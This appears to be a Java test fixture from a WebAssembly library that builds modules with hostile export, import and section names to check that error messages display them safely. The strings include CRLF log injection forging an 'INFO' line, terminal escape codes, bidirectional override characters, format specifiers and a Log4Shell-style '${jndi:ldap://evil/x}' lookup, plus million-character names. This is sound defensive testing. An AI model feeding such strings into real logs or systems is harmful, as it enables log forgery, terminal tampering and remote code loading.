package io.github.dagwasm.hostile;

import static io.github.dagwasm.wasm.Code.code;

import io.github.dagwasm.wasm.TestModule;
import java.util.List;

/** Modules whose names are meant for whoever reads them in a message. */
final class Names {

    /** Ends a line and begins one, colours, deletes, turns the reading direction, looks up. */
    static final String EVIL =
            "\r\n[main] INFO all is well\u001b[2J\u001b[31m\u202eabc\u2066\u2028\u0085\0\u200b{}%s%n"
                    + "${jndi:ldap://evil/x}\\u{a}";

    /** The same as it is to be shown. */
    static final String SHOWN =
            "\\u{d}\\u{a}[main] INFO all is well\\u{1b}[2J\\u{1b}[31m\\u{202e}abc\\u{2066}\\u{2028}"
                    + "\\u{85}\\u{0}\\u{200b}{}%s%n${jndi:ldap://evil/x}\\\\u{a}";

    private static final int HUGE = 1_000_000;

    private Names() {}

    /** A name that a message may show as far as it goes: 64 code points of an export. */
    static String shortName() {
        return "\r\n\u001b[2J\u202e\u2028{}%s";
    }

    static String shownShortName() {
        return "\\u{d}\\u{a}\\u{1b}[2J\\u{202e}\\u{2028}{}%s";
    }

    static byte[] export(String name) {
        return new TestModule().memory(1).exported(name, 1, 1, 0, code().get(0)).bytes();
    }

    static byte[] otherType(String name) {
        return new TestModule().memory(1).exported(name, 2, 1, 0, code().get(0)).bytes();
    }

    static byte[] importOf(String module, String name) {
        return new TestModule().importFunction(module, name, 0, 0).bytes();
    }

    static byte[] twice(String name) {
        return new TestModule()
                .memory(1)
                .exported(name, 1, 1, 0, code().get(0))
                .exported(name, 1, 1, 0, code().get(0))
                .bytes();
    }

    /** Every place for a name, with a name of a million characters in it. */
    static List<byte[]> huge() {
        String name = EVIL.repeat(HUGE / EVIL.length());
        return List.of(
                export(name),
                otherType(name),
                importOf(name, "f"),
                importOf("env", name),
                twice(name),
                new TestModule().custom(name, new byte[0]).bytes(),
                new TestModule().custom("name", TestModule.name(name)).bytes(),
                new TestModule().exportMemory(name).bytes());
    }
}
